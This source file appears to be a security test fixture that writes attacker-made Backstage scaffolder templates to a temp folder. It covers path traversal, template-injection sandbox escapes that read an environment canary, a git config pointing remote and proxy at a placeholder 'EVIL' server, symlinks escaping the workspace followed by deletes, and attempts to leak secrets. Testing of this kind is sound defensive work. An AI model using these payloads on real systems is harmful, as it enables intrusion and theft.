import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Entity } from '@backstage/catalog-model';
import { located } from './startPaths';

/** A folder of its own for everything that an attack leads to. */
export const root = mkdtempSync(join(tmpdir(), 'attacks-'));
export const outside = join(root, 'outside');
export const CANARY = 'canary-5d1f8f0a';

/** A stored template of whoever may write one: what it has beside it, and its steps. */
interface Attack {
  files?: Record<string, string>;
  links?: Record<string, string>;
  steps: object[];
}

const log = (message: string) => ({ id: 'log', name: 'Log', action: 'debug:log', input: { message } });
const fetchContent = (targetPath?: string) => ({
  id: 'fetch',
  name: 'Fetch',
  action: 'fetch:template',
  input: { url: './content', values: { path: '${{ parameters.path }}' }, ...(targetPath && { targetPath }) },
});
const list = { id: 'list', name: 'List', action: 'debug:log', input: { listWorkspace: 'with-contents' } };

/** By the name of the template. `EVIL` is the attacker's own server. */
const attacks: Record<string, Attack> = {
  'target-path': { files: { 'content/x': 'x' }, steps: [fetchContent('../../outside')] },
  'file-name': { files: { 'content/${{ values.path }}': 'x' }, steps: [fetchContent()] },
  code: {
    files: { 'content/x': "${{ values.path.constructor.constructor('return process.env.PATHS_CANARY')() }}" },
    steps: [
      fetchContent(),
      list,
      log("${{ ''.constructor.constructor('return process.env.PATHS_CANARY')() }}"),
      log("${{ range.constructor('return process.env.PATHS_CANARY')() }}"),
      log("${{ cycler.__proto__.constructor.constructor('return process.env.PATHS_CANARY')() }}"),
      log('${{ process.env.PATHS_CANARY }} ${{ global.process.env.PATHS_CANARY }} ${{ self.constructor }}'),
      log('${{ parameters.path }}'),
    ],
  },
  'git-config': {
    files: {
      'content/.git/config': '[remote "origin"]\n\turl = EVIL/storefront/x.git\n[http]\n\tproxy = EVIL\n',
      'content/README.md': 'x',
    },
    steps: [
      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
      {
        id: 'publish',
        name: 'Publish',
        action: 'publish:gitea',
        input: { repoUrl: '${{ parameters.path }}', description: 'x', defaultBranch: 'main' },
      },
    ],
  },
  links: {
    files: { 'content/own': 'own' },
    links: {
      'content/file': join(outside, 'secret'),
      'content/folder': outside,
      'content/dangling': join(outside, 'later'),
      'content/one': outside,
      'content/two': 'one',
      'content/three': 'two/secret',
    },
    steps: [
      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
      list,
      {
        id: 'delete',
        name: 'Delete',
        action: 'fs:delete',
        input: { files: ['file', 'folder/secret', 'two/secret', 'three', 'folder/*'] },
      },
    ],
  },
  'committed-links': {
    files: { 'content/own': 'own' },
    links: { 'content/file': join(outside, 'secret') },
    steps: [
      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
      {
        id: 'commit',
        name: 'Commit',
        action: 'greenroom:git:commit',
        input: { repository: '${{ parameters.path }}', sourcePath: './', message: 'x' },
      },
    ],
  },
  'source-path': {
    steps: [
      {
        id: 'commit',
        name: 'Commit',
        action: 'greenroom:git:commit',
        input: {
          repository: '${{ parameters.repository }}',
          sourcePath: '${{ parameters.path }}',
          message: 'x',
        },
      },
    ],
  },
  repository: {
    files: { 'content/x': 'x' },
    steps: [
      { id: 'fetch', name: 'Fetch', action: 'fetch:plain', input: { url: './content' } },
      {
        id: 'commit',
        name: 'Commit',
        action: 'greenroom:git:commit',
        input: { repository: '${{ parameters.path }}', sourcePath: './', message: 'x' },
      },
    ],
  },
  secrets: {
    steps: [
      log('${{ secrets.mine }}'),
      log('${{ secrets.mine | dump }}'),
      log('${{ secrets.mine | urlencode }}'),
      log('${{ secrets.mine | upper }}'),
      log('${{ secrets.mine | reverse }}'),
      log('before ${{ secrets.mine }} after'),
      { ...log('each ${{ each.value }}'), each: ['${{ secrets.mine }}'] },
      {
        id: 'commit',
        name: 'Commit',
        action: 'greenroom:git:commit',
        input: {
          repository: 'https://greenroom:${{ secrets.mine }}@git.example/a/b',
          sourcePath: 'x',
          message: 'x',
        },
      },
    ],
  },
};

function store(name: string, { files = {}, links = {}, steps }: Attack, evil: string): Entity {
  const folder = join(root, name);
  mkdirSync(folder, { recursive: true });
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content.replaceAll('EVIL', evil));
  }
  Object.entries(links).forEach(([path, target]) => symlinkSync(target, join(folder, path)));
  const entity = {
    apiVersion: 'scaffolder.backstage.io/v1beta3',
    kind: 'Template',
    metadata: { name },
    spec: { owner: 'platform', type: 'service', parameters: [{ properties: {} }], steps },
  };
  return located(entity, join(folder, 'template.yaml'));
}

/** All of them, written beside their files. */
export function storedAttacks(evil: string): Entity[] {
  return Object.entries(attacks).map(([name, what]) => store(name, what, evil));
}
